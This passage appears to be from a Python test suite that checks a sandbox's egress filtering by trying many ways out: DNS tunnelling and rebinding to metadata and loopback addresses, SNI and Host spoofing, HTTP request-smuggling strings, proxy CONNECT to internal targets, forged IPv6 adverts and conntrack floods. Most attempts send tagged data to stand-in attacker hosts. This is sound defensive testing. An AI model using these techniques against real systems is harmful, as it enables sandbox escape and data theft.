# SPDX-License-Identifier: GPL-2.0-or-later
"""Ways out of an instance that root inside may try: one line each, with how it is shown that the captures would have seen it.

BARE: the same attempt once more when the fence is gone; OPEN: under a policy that allows everything; WIRE: no router would forward it, so it must be
seen on the instance's own wire, and nowhere else. A function is a control of its own. `carries`: an allowed destination may see its bytes.
"""
import os, pwd, socket, ssl, struct, time
from dataclasses import dataclass
from typing import Callable

from border_world import SLOW, run, until
from egress_frames import *
from egress_world import *
from resolver_dns import query, receive_tcp

BARE, OPEN, WIRE = "bare", "open", "wire"
PT_A, PT_B = "pt-a", "pt-b"


@dataclass
class Attempt:
    what: str
    act: Callable  # (world, tag) -> violations that only the attempt itself knows of, or None
    control: object
    carries: bool = False


# ---- how attempts are made

def connect(w, address, port, kind=socket.SOCK_STREAM, timeout=0.7, name=PT_A):
    with Inside(w.ns[name]):
        s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind)
    s.settimeout(timeout * SLOW)
    target = (address, port, 0, 2) if address.startswith("fe80") else (address, port)
    if address.startswith("fe80"):
        with Inside(w.ns[name]):
            target = (address, port, 0, socket.if_nametoindex("eth0"))
    s.connect(target)
    return s


def speak(w, address, port, data, kind=socket.SOCK_STREAM, pieces=None, name=PT_A):
    """What is said to whom, and what came back."""
    try:
        s = connect(w, address, port, kind, name=name)
    except OSError:
        return b""
    try:
        if pieces:
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for i in range(0, len(data), pieces or len(data)):
            s.sendall(data[i:i + (pieces or len(data))])
        return s.recv(4096)
    except OSError:
        return b""
    finally:
        s.close()


def fill(text, tag):
    return text.replace("TAG", tag.decode())


def dns(name, server=GATEWAY, transport="udp", kind="A", port=53):
    def act(w, tag):
        data = query(fill(name, tag), kind)
        if transport == "udp":
            speak(w, server, port, data, socket.SOCK_DGRAM)
        else:
            speak(w, server, port, struct.pack(">H", len(data)) + data)
    return act


def says(address, port, text, kind=socket.SOCK_STREAM):
    return lambda w, tag: speak(w, address, port, fill(text, tag).encode("latin-1"), kind) and None


def hello(address, *names, more=b"", port=443, **how):
    """A ClientHello; `names` None is one without."""
    pieces = how.pop("pieces", None)

    def act(w, tag):
        all_names = [fill(n, tag).encode("latin-1") for n in names]
        speak(w, address, port, client_hello((server_names(*all_names) if names else b"") + more, tag, **how), pieces=pieces)
    return act


def through(target, then=None, direct=None):
    """CONNECT by the explicit proxy; `direct`: and by itself, which is the control's half."""
    def act(w, tag):
        try:
            s = connect(w, GATEWAY, 3128, timeout=1.5)
            s.sendall(fill("CONNECT %s HTTP/1.1\r\nHost: %s\r\nX-Tag: TAG\r\n\r\n" % (target, target), tag).encode())
            answer = s.recv(4096)
            if b" 200 " in answer[:20]:
                s.sendall(then(tag) if then else tag)
                s.recv(100)
            s.close()
        except OSError:
            pass
        if direct:
            speak(w, *direct, tag)
    return act


def frame(kind, make, mac=None, target=None):
    """make(world, tag) -> what is behind the Ethernet header, or several of them."""
    def act(w, tag):
        with Inside(w.ns[PT_A]):
            raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        raw.bind(("eth0", 0))
        packets = make(w, tag)
        head = bytes.fromhex((target or w.gateway_mac).replace(":", "")) + bytes.fromhex((mac or w.mac[PT_A]).replace(":", "")) + kind
        for _ in range(2):
            for packet in packets if isinstance(packets, list) else [packets]:
                raw.send(head + packet)
        raw.close()
    return act


def packet4(target, protocol=17, body=None, source=None, port=8000, **more):
    def make(w, tag):
        s = source or w.ipv4[PT_A]
        return ip4(s, target, protocol, udp(s, target, port, tag) if body is None else body(s, target, tag), **more)
    return frame(V4, make)


def packet6(target, protocol=17, body=None, source=None, port=8000, **more):
    def make(w, tag):
        s = source or w.ipv6[PT_A]
        return ip6(s, target, protocol, udp(s, target, port, tag) if body is None else body(s, target, tag), **more)
    return frame(V6, make)


def segment(flags, payload=True, options=b"", port=8001):
    return lambda s, t, tag: tcp(s, t, port, flags, tag if payload else b"", options)


def plain(w, tag):
    return tag * 4


def plain_body(s, t, tag):
    return tag * 4


def to_neighbour(port, kind):
    return lambda w, tag: [speak(w, w.ipv4[PT_B], port, tag, kind), speak(w, w.ipv6[PT_B], port, tag, kind)] and None


def fragments(first, second, protocol=17):
    """Two pieces of one datagram, each (offset, bytes)."""
    def make(w, tag):
        s = w.ipv4[PT_A]
        return [ip4(s, DIRECT, protocol, first(s, tag)[1], offset=first(s, tag)[0], more=True, ident=77), ip4(s, DIRECT, protocol, second(s, tag)[1], offset=second(s, tag)[0], ident=77)]
    return frame(V4, make)


# ---- attempts that are more than one packet

def scan_names(w, tag):
    """More names below an allowed suffix than anybody needs."""
    s = connect(w, GATEWAY, 53, socket.SOCK_DGRAM)
    s.settimeout(0.01)
    for i in range(260):
        s.send(query("%s%d.wild.example.net" % (tag.decode(), i)))
        try:
            s.recv(1500)
        except OSError:
            pass
    time.sleep(0.3)
    arrived = {n for n in w.dns.names() if n.startswith(tag.decode())}
    w.dns.asked.clear()
    w.passed_names = len(arrived)
    return ["%d names went out" % len(arrived)] if len(arrived) > 100 else None


def scan_names_control(w, tag):
    return ["%d went out" % w.passed_names] if w.passed_names > 50 else None


def rebind(*values, also=()):
    """A name that is allowed, and that its owner has lead elsewhere: over the transparent proxy, the explicit one, and by its own port."""
    def act(w, tag):
        name = tag.decode() + ".rebind.example.org"
        for kind in {k for k, _ in values}:
            ZONE[name, kind] = [(kind, 5, v) for k, v in values if k == kind]
        for kind in ("A", "AAAA"):
            speak(w, GATEWAY, 53, query(name, kind), socket.SOCK_DGRAM)
        through(name + ":443", lambda t: client_hello(server_names(name.encode()), t))(w, tag)
        hello(EVIL, name)(w, tag)
        for address in also:
            speak(w, address, 9000, tag)
            speak(w, address, 443, tag)
        return None if name in w.dns.names() or w.hostd.poll() is not None else ["its name server was not asked: nothing was tried"]
    return act


def rebind_chain(w, tag):
    name, inner = tag.decode() + ".rebind.example.org", "inner%s.evil.example.org" % tag.decode()
    ZONE[name, "CNAME"], ZONE[inner, "A"] = [("CNAME", 5, inner)], [("A", 5, PRIVATE)]
    speak(w, GATEWAY, 53, query(name), socket.SOCK_DGRAM)
    through(name + ":443", lambda t: client_hello(server_names(name.encode()), t))(w, tag)
    speak(w, PRIVATE, 9000, tag)


def to_host(addresses, ports):
    def act(w, tag):
        for address in addresses:
            for port in ports:
                if speak(w, address, port, tag, socket.SOCK_DGRAM):
                    return ["answered"]
                speak(w, address, port, tag)
    return act


def programs_directly(w, tag):
    """The ports to which the redirects lead, without them."""
    bad = []
    for address in (GATEWAY, GATEWAY6):
        for port in (8453, 8443, 8480):
            try:
                connect(w, address, port).close()
                bad.append("%s %d is open" % (address, port))
            except OSError:
                pass
        if speak(w, address, 8453, query("good.example.org"), socket.SOCK_DGRAM):
            bad.append("%s 8453 answers" % address)
    return bad


def programs_control(w, tag):
    """The same sockets do answer to what was redirected."""
    return ["answered"] if speak(w, GATEWAY, 53, query("good.example.org"), socket.SOCK_DGRAM) else None


def expectations(w, tag):
    """What protocols with a second connection say, in an allowed flow: nobody may make of it that a stranger is let in."""
    for text in ("PORT 93,1,66,6,31,64\r\n", "EPRT |1|%s|8000|\r\n" % EVIL, "PRIVMSG x :\1DCC SEND f %d 8000 1\1\r\n" % struct.unpack("!I", socket.inet_aton(EVIL))[0],
                 "INVITE sip:x SIP/2.0\r\nContact: <sip:x@%s:8000>\r\n" % EVIL):
        speak(w, DIRECT, 8000, text.encode())
    found = run("conntrack", "-L", "expect") if os.path.exists("/usr/sbin/conntrack") else ""
    return ["expectation: " + found] if "dst=" in found else None


def expectations_control(w, tag):
    return ["the flow itself"] if speak(w, DIRECT, 8000, tag) == tag else None


def related(target, inner_target):
    """An ICMP error about a flow: of mine (which is there), to somebody else; its quotation is the smuggler's bag."""
    def make(w, tag):
        me = w.ipv4[PT_A]
        quoted = ip4(inner_target, me, 17, udp(inner_target, me, 4446, tag * 3, sport=8000))
        return ip4(me, target, 1, icmp(3, 3, b"\0\0\0\0", quoted))

    def act(w, tag):
        with Inside(w.ns[PT_A]):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind(("", 4446))
        s.connect((DIRECT, 8000))
        s.send(b"opens the flow")
        frame(V4, make)(w, tag)
        s.close()
    return act


def hole_punch(w, tag):
    """A stranger answers to the port that an allowed flow was given on the uplink."""
    with Inside(w.ns[PT_A]):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("", 5599))
    s.connect((DIRECT, 8000))
    s.send(b"opens")
    with Inside(w.outside):
        stranger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    stranger.bind((EVIL, 8005))
    w.own.drain()
    stranger.sendto(tag, (HOST4, 5599))
    time.sleep(0.1)
    got = [f for f in w.own.drain() if tag in f]
    s.close()
    stranger.close()
    return ["a stranger's datagram came in"] if got else None


def hole_punch_control(w, tag):
    w.own.drain()
    speak(w, DIRECT, 8000, tag, socket.SOCK_DGRAM)
    return ["the answer came in"] if any(tag in f for f in w.own.drain()) else None


def inbound(w, tag):
    w.own.drain()
    for target in (w.ipv4[PT_A], w.ipv6[PT_A]):
        with Inside(w.outside):
            s = socket.socket(socket.AF_INET6 if ":" in target else socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((EVIL6 if ":" in target else EVIL, 0))
        s.sendto(tag, (target, 7000))
        s.close()
    time.sleep(0.05)
    return ["came in"] if any(tag in f for f in w.own.drain()) else None


def after_revoke(half, kind=socket.SOCK_STREAM, change=True):
    """A flow, one half of it closed perhaps; its rule goes; what is said on it then must not arrive."""
    def act(w, tag):
        s = connect(w, KEEP, 8000, kind, name=PT_B)
        s.sendall(b"x")
        s.recv(1)
        if half == "mine":
            s.shutdown(socket.SHUT_RD)
        if half == "his":
            s.sendall(b"y")
        if change:
            run("hostctl", "policy", "set", "pt-flows", "allow %s/32 udp 8000" % DIRECT)
        w.settle()
        try:
            for _ in range(3):
                s.sendall(tag)
                time.sleep(0.03)
        except OSError:
            pass
        time.sleep(0.1)
        s.close()
        seen = [str(Frame(f)) for f in w.uplink.drain() + w.arrived.drain() if tag in f]
        w.policy("pt-flows", w.flows_rules)
        time.sleep(0.05)
        w.settle()
        return seen
    return act


def after_cut(w, tag, cut=True):
    s = connect(w, KEEP, 8000, name=PT_B)
    s.sendall(b"x")
    s.recv(1)
    if cut:
        run("hostctl", "network", "cut", PT_B)
    w.settle()
    try:
        s.sendall(tag)
        time.sleep(0.1)
    except OSError:
        pass
    speak(w, KEEP, 8000, tag, name=PT_B)
    s.close()
    seen = [str(Frame(f)) for f in w.uplink.drain() + w.arrived.drain() if tag in f]
    if cut:
        run("hostctl", "network", "restore", PT_B)
    w.settle()
    return seen


def exposed(from_, begin=True):
    """An exposed port lets nobody else in, and nothing out by itself."""
    def act(w, tag):
        run("hostctl", "expose", PT_A, "7000", "--as", "17000", "--protocol", "udp", "--from", GOOD + "/32")
        with Inside(w.ns[PT_A]):
            inside = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        inside.bind(("", 7000))
        inside.settimeout(0.3 * SLOW)
        with Inside(w.outside):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((from_, 7001))
        s.settimeout(0.3)
        s.sendto(tag, (HOST4, 17000))
        try:
            bad = ["came in from " + from_] if inside.recv(100) == tag else []
        except OSError:
            bad = []
        inside.sendto(tag, (EVIL, 7001))  # from the exposed port, to somebody who never came
        speak(w, HOST4, 17000, tag, socket.SOCK_DGRAM)  # round by the host's own address
        speak(w, HOST4, 17000, tag, socket.SOCK_DGRAM, name=PT_B)
        inside.close()
        s.close()
        run("hostctl", "unexpose", PT_A, "7000", "--protocol", "udp")
        return bad
    return act


def deputy(user, targets, kind=socket.SOCK_STREAM):
    """What a conquered program of the border could do with its sockets."""
    def act(w, tag):
        uid = pwd.getpwnam(user).pw_uid
        if user == "hostd-haproxy":  # each instance's has one of this user's range
            uid = next(int(line.split(":")[1]) for line in open("/etc/subuid") if line.startswith(user + ":")) + 1
        for address, port in targets(w):
            pid = os.fork()
            if pid == 0:
                os.setgroups([])
                os.setuid(uid)
                s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind)
                s.settimeout(0.3 * SLOW)
                try:
                    s.connect((address, port))
                    s.send(tag)
                    s.recv(10)
                except OSError:
                    pass
                os._exit(0)
            os.waitpid(pid, 0)
    return act


def private(w):
    return [(PRIVATE, 443), (METADATA, 80), (CGNAT, 443), (ULA, 443)]


def host_itself(w):
    return [("127.0.0.1", 8080), (HOST4, 8080), (GATEWAY, 8080), (HOST6, 8080)]


def instances(w):
    return [(w.ipv4[PT_B], 7000), (w.ipv6[PT_B], 7000)]


def flood(w, tag):
    """Sources that are nobody's must not fill the table of connections."""
    before = int(open("/proc/sys/net/netfilter/nf_conntrack_count").read())
    packets = lambda w, tag: [ip4("172.%d.%d.1" % (16 + i // 250, i % 250), DIRECT, 6, tcp("172.%d.%d.1" % (16 + i // 250, i % 250), DIRECT, 8000, 2, tag)) for i in range(1500)]
    frame(V4, packets)(w, tag)
    grown = int(open("/proc/sys/net/netfilter/nf_conntrack_count").read()) - before
    return ["%d entries" % grown] if grown > 50 else None


def poison(kind, make, target=None):
    """State of the host that frames could change."""
    state = lambda: [run("ip", *words.split()) for words in ("route", "-6 route", "neigh show nud permanent", "-6 neigh show nud permanent", "-br addr")]

    def act(w, tag):
        before = state()
        frame(kind, make, target=target)(w, tag)
        time.sleep(0.05)
        after = state()
        stray = [line for line in (run("ip", "neigh") + run("ip", "-6", "neigh")).splitlines() if "dev " + w.device[PT_A] in line and "PERMANENT" not in line and "FAILED" not in line]
        return (["the host's state changed"] if before != after else []) + stray
    return act


def advert(w, tag):
    body = struct.pack("!BBHII", 64, 0xc0, 1800, 0, 0) + struct.pack("!BBBBIII", 3, 4, 64, 0xc0, 3600, 3600, 0) + socket.inet_pton(socket.AF_INET6, "2a01:dead::") + b"\x19\x04" + tag.ljust(30, b"\0")[:30]
    return ip6("fe80::ff:fe00:1", "ff02::1", 58, icmp6("fe80::ff:fe00:1", "ff02::1", 134, 0, b"", body), hops=255)


def neighbour_advert(w, tag):
    body = socket.inet_pton(socket.AF_INET6, "2a01:4f8:2::1") + b"\x02\x01" + bytes.fromhex(w.mac[PT_A].replace(":", "")) + b"\x0e\x04" + tag.ljust(30, b"\0")[:30]
    return ip6(w.ipv6[PT_A], "fe80::1", 58, icmp6(w.ipv6[PT_A], "fe80::1", 136, 0, struct.pack("!I", 0x60000000), body), hops=255)


def redirect(w, tag):
    me = w.ipv4[PT_A]
    return ip4(GATEWAY, HOST4, 1, icmp(5, 1, socket.inet_aton(me), ip4(HOST4, EVIL, 17, udp(HOST4, EVIL, 53, tag))))


def intercepted(path, headers, name="api.example.org", extra=()):
    """A request through the instance's HAProxy; what reaches an origin is in its list of requests."""
    def act(w, tag):
        words = ["curl", "-sk", "-m", "6", "-o", "/dev/null", *extra, "https://%s%s" % (name, fill(path, tag).replace("PLACEHOLDER", w.placeholder))]
        for h in headers:
            words += ["-H", fill(h, tag).replace("PLACEHOLDER", w.placeholder)]
        w.client(*words)
        return ["%s saw the request" % a for a, head in w.requests if tag in head]
    return act


def within_tls(text, name="api.example.org"):
    """What no client would say, where the instance's HAProxy ends the TLS."""
    def act(w, tag):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        try:
            s = context.wrap_socket(connect(w, API, 443, timeout=5), server_hostname=name)
            s.sendall(fill(text, tag).encode())
            while s.recv(4096):
                s.settimeout(0.3 * SLOW)
        except OSError:
            pass
        return ["%s saw the request" % a for a, head in w.requests if tag in head]
    return act


def leaks(path, name, *headers, extra=()):
    """The placeholder where it does not belong: the real value must reach nobody."""
    def act(w, tag):
        intercepted(path, headers, name, extra)(w, tag)
        return ["%s got the value" % a for a, head in w.requests if w.secret.encode() in head]
    return act


def real_control(w, tag):
    return leaks("/v1/TAG", "api.example.org", "Authorization: Bearer PLACEHOLDER")(w, tag)


def host_header_control(w, tag):
    return intercepted("/v1/TAG", ())(w, tag)


def named_address(w, tag):
    """An address that the resolver let pt-a's kernel have is pt-a's, on the port of the rule."""
    speak(w, GATEWAY, 53, query("ports.example.org"), socket.SOCK_DGRAM)
    if not speak(w, GOOD, 9000, b"x"):
        return ["the name's own port is closed"]
    speak(w, GOOD, 9001, tag)
    speak(w, GOOD, 9000, tag, socket.SOCK_DGRAM)
    speak(w, GOOD, 9000, tag, name=PT_B)


SYN, FIN, RST, PSH, ACK, URG = 2, 1, 4, 8, 16, 32
STRANGER = "TAG.evil.example.org"
ECH = extension(0xfe0d, b"\0\0\1\0\1\7\0\x20" + b"k" * 32 + b"\0\x10" + b"c" * 16)


def names_rows():
    a = Attempt
    return [
        a("DNS: a name that no rule has", dns(STRANGER), OPEN),
        a("the same over TCP", dns(STRANGER, transport="tcp"), OPEN),
        a("its TXT", dns(STRANGER, DNS, kind="TXT"), BARE),
        a("to a name server of one's own", dns(STRANGER, EVIL), BARE),
        a("by TCP", dns(STRANGER, EVIL, "tcp"), BARE),
        a("in IPv6", dns(STRANGER, EVIL6), BARE),
        a("in IPv6 by TCP", dns(STRANGER, EVIL6, "tcp"), BARE),
        a("to hostd's own upstream", dns(STRANGER, DNS), BARE),
        a("on port 5353 of a stranger", dns(STRANGER, EVIL, port=5353), BARE),
        a("multicast DNS", packet4("224.0.0.251", port=5353), WIRE),
        a("DNS over TLS", says(EVIL, 853, "TAG"), BARE),
        a("DNS over QUIC", says(EVIL, 853, "TAG", socket.SOCK_DGRAM), BARE),
        a("DNS over HTTPS, by name", hello(EVIL, "TAG.doh.example.org"), BARE),
        a("QUIC to an allowed name's address", says(GOOD, 443, "TAG", socket.SOCK_DGRAM), BARE),
        a("QUIC to a stranger", says(EVIL, 443, "TAG", socket.SOCK_DGRAM), BARE),
        a("TXT of an allowed name", dns("TAG.wild.example.org", DNS, kind="TXT"), BARE),
        a("NULL of an allowed name", dns("TAG.wild.example.org", DNS, kind="NULL"), BARE),
        a("ANY of an allowed name", dns("TAG.wild.example.org", DNS, kind="ANY"), BARE),
        a("HTTPS records of an allowed name (its ECH keys)", dns("TAG.wild.example.org", DNS, kind="HTTPS"), BARE),
        a("zone transfer", dns("TAG.wild.example.org", DNS, "tcp", "AXFR"), BARE),
        a("a tunnel of many names below an allowed suffix", scan_names, scan_names_control, carries=True),
        a("an allowed suffix as a part of a stranger's name", dns("wild.example.org.TAG.evil.example.org"), OPEN),
        a("rebinding to a private address", rebind(("A", PRIVATE), also=(PRIVATE,)), BARE, carries=True),
        a("rebinding to the metadata address", rebind(("A", METADATA), also=(METADATA,)), BARE, carries=True),
        a("rebinding to carrier NAT", rebind(("A", CGNAT), also=(CGNAT,)), BARE, carries=True),
        a("rebinding to a unique local address", rebind(("AAAA", ULA), also=(ULA,)), BARE, carries=True),
        a("rebinding to a v4-mapped address", rebind(("AAAA", "::ffff:10.50.0.1"), also=(PRIVATE,)), BARE, carries=True),
        a("rebinding to NAT64", rebind(("AAAA", "64:ff9b::a32:1"), also=("64:ff9b::a32:1",)), BARE, carries=True),
        a("rebinding to 6to4", rebind(("AAAA", "2002:a32:1::1"), also=("2002:a32:1::1",)), BARE, carries=True),
        a("rebinding to the host's own address", rebind(("A", HOST4), ("AAAA", HOST6), also=(HOST4,)), BARE, carries=True),
        a("rebinding to the gateway", rebind(("A", GATEWAY), also=(GATEWAY,)), BARE, carries=True),
        a("rebinding to loopback", rebind(("A", "127.0.0.1"), ("AAAA", "::1"), also=(HOST4,)), BARE, carries=True),
        a("rebinding to an instance", lambda w, tag: rebind(("A", w.ipv4[PT_B]), also=(w.ipv4[PT_B],))(w, tag), BARE, carries=True),
        a("one good address and one private", rebind(("A", GOOD), ("A", PRIVATE), also=(PRIVATE,)), BARE, carries=True),
        a("a CNAME into a private range", rebind_chain, BARE, carries=True),
        a("the address of an allowed name on other ports, and from elsewhere", named_address, BARE),
    ]


def tls_rows():
    a, evil = Attempt, STRANGER
    return [
        a("TLS: a stranger's name at his address", hello(EVIL, evil), BARE),
        a("in IPv6", hello(EVIL6, evil), BARE),
        a("a stranger's name at an allowed address", hello(GOOD, evil), BARE),
        a("an allowed name at a stranger's address", hello(EVIL, "good.example.org"), BARE, carries=True),
        a("no name", hello(EVIL), BARE),
        a("an address as name", hello(EVIL, EVIL), BARE),
        a("an IPv6 address as name", hello(EVIL, "[%s]" % EVIL6), BARE),
        a("byte by byte", hello(EVIL, evil, pieces=1), BARE),
        a("in pieces that part the name", hello(EVIL, evil, pieces=70), BARE),
        a("in five TLS records", hello(EVIL, evil, records=5), BARE),
        a("in forty records, in pieces", hello(EVIL, evil, records=40, pieces=7), BARE),
        a("two names in one list, the allowed first", hello(EVIL, "good.example.org", evil), BARE),
        a("two names in one list, the allowed last", hello(EVIL, evil, "good.example.org"), BARE),
        a("two lists of names", lambda w, tag: hello(EVIL, "good.example.org", more=server_names(fill(evil, tag).encode()))(w, tag), BARE),
        a("an allowed name, NUL, a stranger's", hello(EVIL, "good.example.org\0." + evil), BARE),
        a("a stranger's name, NUL, an allowed", hello(EVIL, evil + "\0good.example.org"), BARE),
        a("with a dot at the end", hello(EVIL, evil + "."), BARE),
        a("an allowed name in capitals and a dot", hello(EVIL, "GOOD.example.org."), BARE, carries=True),
        a("an allowed name as a part", hello(EVIL, "good.example.org." + evil), BARE),
        a("a name that ends like an allowed one", hello(EVIL, "TAGgood.example.org"), BARE),
        a("encrypted ClientHello, a stranger's name outside", hello(EVIL, evil, more=ECH), BARE),
        a("encrypted ClientHello without a name", hello(EVIL, more=ECH), BARE),
        a("a ClientHello of 20 KiB before its name", hello(EVIL, evil, more=extension(21, b"\0" * 15000)), BARE),
        a("SSL 2's ClientHello", says(EVIL, 443, "\x80\x2e\1\0\2\0\x15\0\0\0\x10TAG0123456789"), BARE),
        a("TLS cut off, then another protocol", says(EVIL, 443, "\x16\3\1\0\5\1\0\0\1TAG"), BARE),
        a("plain HTTP on 443", says(EVIL, 443, "GET /TAG HTTP/1.1\r\nHost: good.example.org\r\n\r\n"), BARE),
        a("SSH on 443", says(EVIL, 443, "SSH-2.0-TAG\r\n"), BARE),
        a("a tunnel's handshake on 443", says(EVIL, 443, "\1\0\0\0TAG" + "\0" * 100), BARE),
        a("fast open with data to 443", packet4(EVIL, 6, segment(SYN, options=b"\x22\x0aCOOKIE00", port=443)), BARE),
        a("fast open with data to an allowed name's address", packet4(GOOD, 6, segment(SYN, options=b"\x22\x0aCOOKIE00", port=443)), BARE),
        a("HTTP: a stranger's Host", says(EVIL, 80, "GET / HTTP/1.1\r\nHost: TAG.evil.example.org\r\n\r\n"), BARE),
        a("at an allowed address", says(PLAIN, 80, "GET / HTTP/1.1\r\nHost: TAG.evil.example.org\r\n\r\n"), BARE),
        a("an allowed Host at a stranger's address", says(EVIL, 80, "GET /TAG HTTP/1.1\r\nHost: plain.example.org\r\n\r\n"), BARE, carries=True),
        a("two Hosts", says(PLAIN, 80, "GET /TAG HTTP/1.1\r\nHost: plain.example.org\r\nHost: evil.example.org\r\n\r\n"), BARE),
        a("a target that is not the Host", says(PLAIN, 80, "GET http://evil.example.org/TAG HTTP/1.1\r\nHost: plain.example.org\r\n\r\n"), BARE),
        a("no Host", says(PLAIN, 80, "GET /TAG HTTP/1.0\r\n\r\n"), BARE),
        a("two lengths, the second request behind", says(PLAIN, 80, "POST / HTTP/1.1\r\nHost: plain.example.org\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /TAG HTTP/1.1\r\nHost: evil.example.org\r\n\r\n"), BARE),
        a("a second request on the connection", says(PLAIN, 80, "GET / HTTP/1.1\r\nHost: plain.example.org\r\n\r\nGET /TAG HTTP/1.1\r\nHost: evil.example.org\r\n\r\n"), BARE),
        a("folded headers", says(PLAIN, 80, "GET /TAG HTTP/1.1\r\nX: y\r\n Host: plain.example.org\r\nHost: plain.example.org\r\n\r\n"), BARE),
        a("bare line feeds", says(PLAIN, 80, "GET /TAG HTTP/1.1\nHost: plain.example.org\n\n"), BARE),
        a("CONNECT on port 80", says(PLAIN, 80, "CONNECT evil.example.org:443 HTTP/1.1\r\nHost: plain.example.org\r\nX: TAG\r\n\r\n"), BARE),
        a("HTTP/2 without TLS", says(PLAIN, 80, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nTAG"), BARE),
        a("HTTP 0.9", says(EVIL, 80, "GET /TAG\r\n"), BARE),
        a("mail on port 80", says(EVIL, 80, "EHLO TAG\r\n"), BARE),
        a("CONNECT to a stranger", through("evil.example.org:443", direct=(EVIL, 443)), BARE),
        a("CONNECT to an address", through(EVIL + ":443", direct=(EVIL, 443)), BARE),
        a("CONNECT to an IPv6 address", through("[%s]:443" % EVIL6, direct=(EVIL6, 443)), BARE),
        a("CONNECT to a stranger whom a policy allows", through("evil.example.org:443", lambda t: client_hello(server_names(b"evil.example.org"), t)), OPEN),
        a("CONNECT to loopback", through("127.0.0.1:8080", direct=(HOST4, 8080)), BARE),
        a("CONNECT to loopback's name", through("localhost:8080", direct=(HOST4, 8080)), BARE),
        a("CONNECT to loopback as a number", through("2130706433:8080", direct=(HOST4, 8080)), BARE),
        a("CONNECT to loopback in other digits", through("0x7f.1:8080", direct=(HOST4, 8080)), BARE),
        a("CONNECT to loopback in IPv6", through("[::1]:8080", direct=(HOST6, 8080)), BARE),
        a("CONNECT to loopback, v4-mapped", through("[::ffff:127.0.0.1]:8080", direct=(HOST4, 8080)), BARE),
        a("CONNECT to 0.0.0.0", through("0.0.0.0:8080", direct=(HOST4, 8080)), BARE),
        a("CONNECT to the host's address", through(HOST4 + ":8080", direct=(HOST4, 8080)), BARE),
        a("CONNECT to the gateway", through(GATEWAY + ":8080", direct=(GATEWAY, 8080)), BARE),
        a("CONNECT to the gateway in IPv6", through("[fe80::1]:8080", direct=(GATEWAY6, 8080)), BARE),
        a("CONNECT to a private address", through(PRIVATE + ":443", direct=(PRIVATE, 443)), BARE),
        a("CONNECT to the metadata address", through(METADATA + ":80", direct=(METADATA, 80)), BARE),
        a("CONNECT to an instance", lambda w, tag: through(w.ipv4[PT_B] + ":7000", direct=(w.ipv4[PT_B], 7000))(w, tag), BARE),
        a("CONNECT to a socket of the host", through("/run/hostd/hostd.sock", direct=(HOST4, 8080)), BARE),
        a("CONNECT to a port that no rule has", through("good.example.org:25", direct=(GOOD, 25)), BARE),
        a("CONNECT to an allowed name, another within", through("good.example.org:443", lambda t: client_hello(server_names(b"evil.example.org"), t), direct=(EVIL, 443)), BARE),
        a("CONNECT to an allowed name, plain text within", through("good.example.org:443", lambda t: b"GET /" + t + b" HTTP/1.1\r\n\r\n", direct=(EVIL, 443)), BARE),
        a("a stranger's address in absolute form", says(GATEWAY, 3128, "GET http://evil.example.org/TAG HTTP/1.1\r\nHost: evil.example.org\r\n\r\n"), OPEN),
        a("an allowed target, a stranger's Host", says(GATEWAY, 3128, "GET http://plain.example.org/TAG HTTP/1.1\r\nHost: evil.example.org\r\n\r\n"),
          lambda w, tag: says(GATEWAY, 3128, "GET http://plain.example.org/TAG HTTP/1.1\r\nHost: plain.example.org\r\n\r\n")(w, tag) or w.violations(tag, False)),
        a("intercepted: a Host that is not the name", intercepted("/v1/TAG", ["Host: evil.example.org"], extra=["--http1.1"]), host_header_control),
        a("in HTTP/2", intercepted("/v1/TAG", ["Host: evil.example.org"], extra=["--http2"]), host_header_control),
        a("two Hosts there", within_tls("GET /v1/TAG HTTP/1.1\r\nHost: api.example.org\r\nHost: evil.example.org\r\n\r\n"), host_header_control),
        a("a target there that is not the Host", within_tls("GET https://evil.example.org/v1/TAG HTTP/1.1\r\nHost: api.example.org\r\n\r\n"), host_header_control),
        a("two lengths there, a second request behind", within_tls("POST /v1/ HTTP/1.1\r\nHost: api.example.org\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
          "GET /TAG HTTP/1.1\r\nHost: evil.example.org\r\n\r\n"), host_header_control),
        a("a second request there with another Host", within_tls("GET /v1/ HTTP/1.1\r\nHost: api.example.org\r\n\r\nGET /v1/TAG HTTP/1.1\r\nHost: evil.example.org\r\n\r\n"), host_header_control),
        a("CONNECT there", within_tls("CONNECT evil.example.org:443 HTTP/1.1\r\nHost: api.example.org\r\nX: TAG\r\n\r\n"), host_header_control),
        a("a Host with a dot at the end", within_tls("GET /v1/TAG HTTP/1.1\r\nHost: evil.example.org.\r\n\r\n"), host_header_control),
        a("the placeholder to another allowed host", leaks("/TAG", "good.example.org", "Authorization: Bearer PLACEHOLDER"), real_control, carries=True),
        a("the placeholder on another path", leaks("/other/TAG", "api.example.org", "Authorization: Bearer PLACEHOLDER"), real_control, carries=True),
        a("the placeholder in another header", leaks("/v1/TAG", "api.example.org", "X-Other: PLACEHOLDER"), real_control, carries=True),
        a("the placeholder on a path in disguise", leaks("/v1/../other/TAG", "api.example.org", "Authorization: Bearer PLACEHOLDER", extra=["--path-as-is"]), real_control, carries=True),
        a("the placeholder in the address", leaks("/v1/TAG?t=PLACEHOLDER", "api.example.org"), real_control, carries=True),
        a("the placeholder with another method", leaks("/v1/TAG", "api.example.org", "Authorization: Bearer PLACEHOLDER", extra=["-X", "DELETE"]), real_control, carries=True),
    ]


def packet_rows():
    a = Attempt
    rows = [a("IPv4 source: " + what, packet4(DIRECT, source=source), control) for what, source, control in (
        ("the neighbour", "10.209.0.2", BARE), ("another of the pool", "10.209.7.7", BARE), ("the host", HOST4, BARE), ("the gateway", GATEWAY, BARE), ("none", "0.0.0.0", WIRE),
